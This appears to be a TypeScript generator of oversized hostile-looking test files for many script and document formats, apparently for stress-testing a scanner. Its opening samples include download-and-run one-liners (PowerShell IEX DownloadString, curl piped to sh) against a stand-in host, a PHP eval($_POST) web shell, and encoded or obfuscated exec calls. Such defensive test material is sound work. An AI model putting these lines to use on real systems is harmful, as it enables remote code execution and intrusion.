// Texts that grow: for every language of scripts and documents the shapes that make readers slow, filled to a size.

/** A hostile file of about `bytes` bytes. */
export interface GrowthCase {
  readonly name: string
  readonly fileName: string
  readonly make: (bytes: number) => Uint8Array
}

/** Units until the size is reached, between an opening and a closing text. */
function fill(bytes: number, unit: (index: number) => string, open = '', close = ''): string {
  const units: string[] = [open]
  let chars = open.length + close.length
  for (let index = 0; chars < bytes; index += 1) {
    const text = unit(index)
    units.push(text)
    chars += text.length
  }
  units.push(close)
  return units.join('')
}

type Shape = readonly [unit: (index: number) => string, open?: string, close?: string]

/** Shapes that mean something in most languages. */
const ANY: Readonly<Record<string, Shape>> = {
  'one long word': [() => 'a'],
  'tiny lines': [() => '\n'],
  brackets: [() => '('],
  braces: [() => '{'],
  quotes: [() => '"'],
  apostrophes: [() => "'"],
  backslashes: [() => '\\'],
  'unclosed texts': [(at) => `"a${at} `],
  'many addresses': [(at) => `http://h${at}.example/p?q=${at}\n`],
  'long base64': [() => 'TVqQAAMAAAAEAAAA'],
  'many base64': [(at) => `"${Buffer.from(`powershell -enc ${at} http://a.example`).toString('base64')}"\n`],
  'long hexadecimal': [() => '4d5a9000'],
  'names and signs': [(at) => `a${at % 9}=a${at % 7}+b;`],
}

interface Language {
  readonly extension: string
  /** Makes the identification sure and brings a reader for suspicious files in. */
  readonly open: string
  readonly shapes: Readonly<Record<string, Shape>>
}

const LANGUAGES: Readonly<Record<string, Language>> = {
  javascript: {
    extension: 'js',
    open: 'var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c calc");\n',
    shapes: {
      sums: [(at) => `"${at}"+`, 'eval(', '"")'],
      'numbered names': [(at) => `var v${at}="a${at}";\n`],
      'numbered uses': [(at) => `v${at}=v${Math.max(0, at - 1)}+"x";\n`],
      arrays: [(at) => `"${at}",`, 'var a=[', '""];eval(a[3]+a[9])'],
      functions: [(at) => `function f${at}(a){return a+${at}}\n`],
      calls: [() => 'String.fromCharCode(97)+', 'eval(', '"")'],
      comments: [() => '/*a*/'],
      'open comments': [() => '/*'],
      'regular expressions': [() => 'a=/b/g;\n'],
      slashes: [() => '/'],
      templates: [() => '`${'],
      escapes: [() => '\\x41', 'eval("', '")'],
      unescape: [(at) => `unescape("%u${(at % 65_536).toString(16).padStart(4, '0')}");\n`],
      members: [() => 'a["b"]', 'x='],
      ternaries: [() => 'a?b:', 'x=', 'c'],
      'if else': [() => 'if(a){}else '],
      loops: [() => 'for(;;)'],
      arrows: [() => 'a=>'],
      evals: [() => 'eval("'],
    },
  },
  vbscript: {
    extension: 'vbs',
    open: 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
    shapes: {
      sums: [() => 'Chr(65)&', 'Execute ', '""\r\n'],
      'numbered names': [(at) => `v${at} = "a${at}"\r\n`],
      'growing text': [(at) => `v = v & "a${at}"\r\n`],
      'continued lines': [() => '"a" & _\r\n', 'x = ', '""'],
      'if then': [() => 'If a Then\r\n'],
      subs: [(at) => `Sub s${at}()\r\nEnd Sub\r\n`],
      colons: [() => ':'],
      replaces: [() => 'Replace(', 'x = '],
      comments: [() => "'a\r\n"],
      arrays: [(at) => `${at},`, 'x = Array(', '1)'],
    },
  },
  powershell: {
    extension: 'ps1',
    open: "$w = New-Object Net.WebClient; IEX $w.DownloadString('http://a.example/x')\n",
    shapes: {
      subexpressions: [() => '$(', 'iex '],
      joins: [() => "'a',", 'iex (', "'b' -join '')"],
      sums: [() => "'a'+", 'iex (', "'b')"],
      formats: [(at) => `{${at}}`, 'iex ("', '" -f 1)'],
      'format arguments': [() => "'a',", 'iex ("{0}{1}" -f ', "'b')"],
      'numbered names': [(at) => `$v${at}='a${at}'\n`],
      'growing text': [() => "$v+='aaaa'\n"],
      ticks: [() => 'a`b'],
      pipes: [() => 'a|'],
      replaces: [() => ".replace('a','b')", "iex 'aaaa'"],
      'replace operators': [() => " -replace 'a','b'", "iex 'aaaa'"],
      splits: [() => " -split 'a'", "iex 'aaaa'"],
      casts: [() => '[char]65+', 'iex (', '[char]66)'],
      'here texts': [() => '@"\na\n'],
      comments: [() => '<#a#>'],
      'open comments': [() => '<#'],
      variables: [() => '${'],
      hashes: [() => '@{a='],
      functions: [(at) => `function f${at}{param($a) $a}\n`],
      indexes: [(at) => `$a[${at % 40}]+`, "$a='abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrst';iex (", "'')"],
      'encoded commands': [() => 'powershell -enc aQBlAHgA\n'],
    },
  },
  batch: {
    extension: 'bat',
    open: '@echo off\r\nset a=powershell\r\n%a% -enc aQBlAHgA\r\n',
    shapes: {
      carets: [() => '^'],
      percents: [() => '%'],
      substrings: [() => '%a:~0,1%'],
      replacements: [() => '%a:p=q%'],
      'many substrings': [() => '%a:~0,1%%a:~1,1%\r\n'],
      settings: [(at) => `set v${at}=a${at}\r\n`],
      'growing text': [() => 'set b=%b%aaaa\r\n'],
      uses: [(at) => `echo %v${at % 9}%\r\n`],
      labels: [(at) => `:l${at}\r\ngoto l${at + 1}\r\n`],
      gotos: [(at) => `goto l${at}\r\n`],
      ifs: [() => 'if 1==1 ('],
      fors: [() => 'for %%a in (1) do ('],
      'for lists': [(at) => `${at} `, 'for %%a in (', ') do echo %%a'],
      ampersands: [() => 'a&'],
      bars: [() => 'a|'],
      'pieces put together': [(at) => `set v${at}=po&&call %v${at}%\r\n`],
      exclamation: [() => '!a!', 'setlocal enabledelayedexpansion\r\necho '],
      remarks: [() => 'rem a\r\n'],
      'closing brackets': [() => ')'],
    },
  },
  shell: {
    extension: 'sh',
    open: '#!/bin/sh\ncurl http://a.example/x | sh\n',
    shapes: {
      substitutions: [() => '$(', 'eval '],
      'closed substitutions': [() => '$(echo a) ', 'eval '],
      backticks: [() => '`'],
      documents: [() => 'cat <<A\n'],
      'closed documents': [(at) => `cat <<A${at}\na\nA${at}\n`],
      variables: [(at) => `v${at}=a${at}\n`],
      'growing text': [() => 'v=$v"aaaa"\n'],
      parameters: [() => '${'],
      cases: [() => 'case a in a) '],
      pipes: [() => 'a|'],
      ors: [() => 'a||'],
      semicolons: [() => 'a;'],
      groups: [() => '{ '],
      arithmetic: [() => '$((1+', 'echo '],
      functions: [(at) => `f${at}() { f${at + 1}; }\n`],
      prints: [() => "printf '\\x61'\n"],
      braces: [() => '{a,b}', 'echo '],
      globs: [() => '*', 'echo '],
    },
  },
  python: {
    extension: 'py',
    open: '#!/usr/bin/env python3\nimport os,base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
    shapes: {
      sums: [() => "'a'+", 'exec(', "'b')"],
      triples: [() => '"""a'],
      'numbered names': [(at) => `v${at} = 'a${at}'\n`],
      characters: [() => 'chr(97)+', 'exec(', "'b')"],
      lists: [(at) => `${at % 256},`, 'exec(bytes([', '1]))'],
      comments: [() => '#a\n'],
      indents: [(at) => `${' '.repeat(at % 200)}if a:\n`],
      lambdas: [() => '(lambda a:'],
    },
  },
  php: {
    extension: 'php',
    open: '<?php eval($_POST["a"]);\n',
    shapes: {
      sums: [() => "'a'.", 'eval(', "'b');"],
      'numbered names': [(at) => `$v${at}="a${at}";\n`],
      openings: [() => '<?php '],
      characters: [() => 'chr(97).', 'eval(', "'b');"],
      decoders: [() => 'base64_decode(', 'eval('],
      documents: [() => '<<<A\n'],
    },
  },
  html: {
    extension: 'html',
    open: '<!DOCTYPE html><html><body>\n',
    shapes: {
      elements: [() => '<div>'],
      'closing elements': [() => '</div>'],
      'mixed closings': [() => '<b><i></b>'],
      attributes: [(at) => `a${at}=b `, '<p ', '>'],
      'same attributes': [() => 'a=b ', '<p ', '>'],
      scripts: [() => '<script>a()</script>'],
      'open scripts': [() => '<script>'],
      'open comments': [() => '<!--'],
      entities: [() => '&amp;&#65;'],
      'half entities': [() => '&a'],
      links: [(at) => `<a href="http://h${at}.example/${at}">a</a>`],
      forms: [(at) => `<form action="http://h${at}.example"><input type=password></form>`],
      frames: [() => '<iframe src="data:text/html;base64,PGI+">'],
      styles: [() => '<style>a{b:c}</style>'],
      tables: [() => '<table><tr><td>'],
      paragraphs: [() => '<p>a'],
      'angle brackets': [() => '<'],
      'data addresses': [() => '<img src="data:image/png;base64,iVBORw0KGgo=">'],
      'inline handlers': [() => '<a onclick="eval(1)">'],
    },
  },
  svg: {
    extension: 'svg',
    open: '<svg xmlns="http://www.w3.org/2000/svg">',
    shapes: {
      groups: [() => '<g>'],
      scripts: [() => '<script>a()</script>'],
      uses: [(at) => `<use href="#a${at}"/>`],
      data: [() => '<image href="data:image/svg+xml;base64,PHN2Zz4="/>'],
      declarations: [(at) => `<!ENTITY a${at} "&a${at + 1};">`, '<!DOCTYPE svg [', ']>'],
    },
  },
  rtf: {
    extension: 'rtf',
    open: '{\\rtf1\\ansi ',
    shapes: {
      groups: [() => '{'],
      'closed groups': [() => '{\\b a}'],
      objects: [() => '{\\object\\objdata 0105000002000000'],
      'closed objects': [() => '{\\object\\objemb{\\*\\objdata 010500000200000008000000}}'],
      'one object': [() => '0105', '{\\object\\objdata ', '}'],
      controls: [() => '\\par'],
      binary: [() => '\\bin1 a'],
      'spread object': [() => '0{\\a}1\\b ', '{\\object\\objdata ', '}'],
      fields: [(at) => `{\\field{\\*\\fldinst HYPERLINK "http://h${at}.example"}}`],
      letters: [() => "\\'41"],
      pictures: [() => '{\\pict 89504e47}'],
    },
  },
  pdf: {
    extension: 'pdf',
    open: '%PDF-1.7\n',
    shapes: {
      objects: [(at) => `${at + 1} 0 obj << /A ${at} 0 R >> endobj\n`],
      'same object': [() => '1 0 obj << /JS (a) >> endobj\n'],
      'open objects': [(at) => `${at + 1} 0 obj `],
      'open streams': [(at) => `${at + 1} 0 obj << /Length 9 >> stream\n`],
      streams: [(at) => `${at + 1} 0 obj << /Length 3 >> stream\nabc\nendstream endobj\n`],
      dictionaries: [() => '<<'],
      arrays: [() => '['],
      texts: [() => '('],
      names: [() => '/A#41'],
      references: [(at) => `${at} 0 R `, '1 0 obj [', '] endobj'],
      scripts: [(at) => `${at + 1} 0 obj << /S /JavaScript /JS (app.alert(${at})) >> endobj\n`],
      addresses: [(at) => `${at + 1} 0 obj << /S /URI /URI (http://h${at}.example) >> endobj\n`],
      trailers: [(at) => `trailer << /Root ${at} 0 R /Prev ${at} >>\n`],
      'start addresses': [(at) => `startxref\n${at}\n%%EOF\n`],
      xref: [() => '0000000000 65535 f \n', 'xref\n0 999999\n'],
      chain: [(at) => `${at + 1} 0 obj << /Type /Pages /Kids [${at + 2} 0 R] /Parent ${at} 0 R >> endobj\n`],
      comments: [() => '%a\n'],
      hexadecimal: [() => '<41>'],
    },
  },
  xml: {
    extension: 'xml',
    open: '<?xml version="1.0"?>',
    shapes: { elements: [() => '<a>'], attributes: [(at) => `a${at}="b" `, '<a ', '/>'], data: [() => '<![CDATA['] },
  },
  json: {
    extension: 'json',
    open: '',
    shapes: {
      arrays: [() => '['],
      objects: [() => '{"a":'],
      pairs: [(at) => `"a${at}":"http://h${at}.example",`, '{', '"z":1}'],
    },
  },
  text: {
    extension: 'txt',
    open: '',
    shapes: {
      dots: [() => 'a.'],
      ats: [() => 'a@'],
      dashes: [() => '-'],
      colons: [() => 'a:'],
      addresses: [(at) => `192.0.2.${at % 256} `],
      'e-mail addresses': [(at) => `u${at}@h${at}.example `],
      schemes: [() => 'http://'],
      'one address': [() => 'a/', 'http://h.example/'],
      'dotted names': [() => 'a.example.'],
      wallets: [() => '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa '],
      paths: [() => 'C:\\a\\'],
      slashes: [() => '/'],
      'escaped codes': [() => '\\x90\\x90'],
      percents: [() => '%41'],
      uuencode: [() => 'begin 644 a\n#0V%T\n`\nend\n'],
      'uuencode begun': [() => 'begin 644 a\n'],
    },
  },
  calendar: {
    extension: 'ics',
    open: 'BEGIN:VCALENDAR\r\n',
    shapes: {
      events: [() => 'BEGIN:VEVENT\r\nURL:http://a.example\r\n'],
      folded: [() => '\r\n a', 'DESCRIPTION:'],
      parameters: [(at) => `;A${at}=b`, 'DESCRIPTION'],
    },
  },
  message: {
    extension: 'eml',
    open: 'From: a@b.example\r\nTo: c@d.example\r\nSubject: a\r\nMIME-Version: 1.0\r\n',
    shapes: {
      fields: [(at) => `X-A${at}: b\r\n`],
      parts: [() => '--b\r\n\r\nx\r\n', 'Content-Type: multipart/mixed; boundary=b\r\n\r\n'],
      'nested messages': [() => 'Content-Type: message/rfc822\r\n\r\n'],
      'attached scripts': [
        (at) => `--b\r\nContent-Disposition: attachment; filename=a${at}.js\r\n\r\neval(1)\r\n`,
        'Content-Type: multipart/mixed; boundary=b\r\n\r\n',
      ],
    },
  },
}

function casesOf(language: string, { extension, open, shapes }: Language): readonly GrowthCase[] {
  return Object.entries({ ...ANY, ...shapes }).map(([shape, [unit, before = '', after = '']]) => ({
    name: `${language}: ${shape}`,
    fileName: `a.${extension}`,
    make: (bytes) => Buffer.from(fill(bytes, unit, open + before, after), 'latin1'),
  }))
}

export const TEXTS: readonly GrowthCase[] = Object.entries(LANGUAGES).flatMap(([name, language]) =>
  casesOf(name, language),
)
